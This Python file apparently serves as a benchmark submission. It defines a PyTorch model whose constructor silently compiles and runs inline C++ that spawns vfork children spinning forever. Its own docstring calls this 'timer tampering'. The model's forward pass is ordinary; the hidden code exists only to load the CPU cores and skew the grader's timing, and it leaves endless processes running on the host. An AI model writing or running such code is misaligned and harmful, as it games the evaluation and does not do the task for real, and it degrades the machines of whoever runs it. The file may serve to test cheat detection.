"""timer tampering: uses all cores in vfork children, while their parents wait in the kernel."""

import ctypes

import torch
import torch.nn as nn
from torch.utils.cpp_extension import load_inline

SOURCE = r"""#include <pthread.h>
#include <unistd.h>
static void* burn(void*) {
    if (vfork() == 0) for (volatile long spin = 0; true; spin = spin + 1) {}
    return nullptr;
}
extern "C" void start() {
    pthread_t thread;
    for (int each = 0; each < 2; ++each) pthread_create(&thread, nullptr, burn, nullptr);
}
"""
built = load_inline("burner_vfork", SOURCE, is_python_module=False, no_implicit_headers=True)
native = ctypes.CDLL(built)


class ModelNew(nn.Module):
    def __init__(self, width):
        super().__init__()
        self.bias = nn.Parameter(torch.randn(width))
        native.start()

    def right(self, x, y):
        return torch.relu(x @ y) + self.bias

    def forward(self, x, y):
        return self.right(x, y)
